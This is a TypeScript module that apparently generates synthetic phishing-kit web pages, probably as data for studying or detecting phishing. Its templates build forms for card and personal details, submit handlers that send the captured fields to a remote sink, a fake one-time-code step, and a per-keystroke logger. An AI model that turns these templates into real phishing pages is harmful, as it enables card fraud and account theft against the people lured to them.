import { escaped } from '../make/pages/layout.ts'
import { cardAsks, drawn, fieldsOf, personAsks } from './fields.ts'
import { js, kitPage } from './kit.ts'
import { backend, farSend, keyLog, ownFile } from './kit-sinks.ts'
import { claimOf, code, formats, payOf, type Structure, smsText } from './kit-structures.ts'

/** One form, sent to a bot, a hook or a backend of forms. */
export const farForm: Structure = (kit, _url, chance) => {
  const { words, dialect } = kit
  const fields = fieldsOf(
    [...personAsks(chance).filter((ask) => ask !== 'phone'), ...cardAsks(chance)],
    words,
    chance,
  )
  const inside = `${drawn(fields, dialect)}${dialect.button(payOf(kit, chance), 'type="submit"')}`
  if (chance.maybe(0.2)) {
    const form = `<form action="${backend(chance).replace('/ajax', '')}" method="POST"><input type="hidden" name="_next" value="https://${kit.body.domain}">${inside}</form>`
    return {
      body: kitPage(kit, claimOf(kit, chance) + form, code(formats(fields, chance)), chance),
      clicks: [],
      asks: true,
    }
  }
  const id = chance.of(['form', 'payForm', 'f', 'refundForm', 'contactForm'])
  const after = chance.of([
    `document.getElementById("${id}").innerHTML=${js(`${smsText(kit, chance)}${dialect.field(escaped(words.labels.code), 'otp', 'name="otp" type="tel" maxlength="8"')}${dialect.button(escaped(words.acts.confirm), 'type="submit"')}`)};`,
    `setTimeout(function(){location.href="https://${kit.body.domain}"},2500);`,
  ])
  const program = `document.getElementById("${id}").addEventListener("submit",function(e){e.preventDefault();var data={};new FormData(this).forEach(function(v,k){data[k]=v});${farSend(chance)}${after}});${formats(fields, chance)}`
  return {
    body: kitPage(kit, `${claimOf(kit, chance)}<form id="${id}">${inside}</form>`, code(program), chance),
    clicks: [],
    asks: true,
  }
}

/** The page sends each keystroke before the visitor submits the form. */
export const keystrokes: Structure = (kit, _url, chance) => {
  const { words, dialect } = kit
  const asks = chance.maybe(0.4)
    ? cardAsks(chance)
    : [...personAsks(chance).filter((ask) => ask !== 'phone'), ...cardAsks(chance)]
  const fields = fieldsOf(asks, words, chance)
  const form = `<form method="post" action="${ownFile(chance)}">${drawn(fields, dialect)}${dialect.button(payOf(kit, chance), 'type="submit"')}</form>`
  return {
    body: kitPage(kit, claimOf(kit, chance) + form, code(keyLog(chance) + formats(fields, chance)), chance),
    clicks: [],
    asks: true,
  }
}
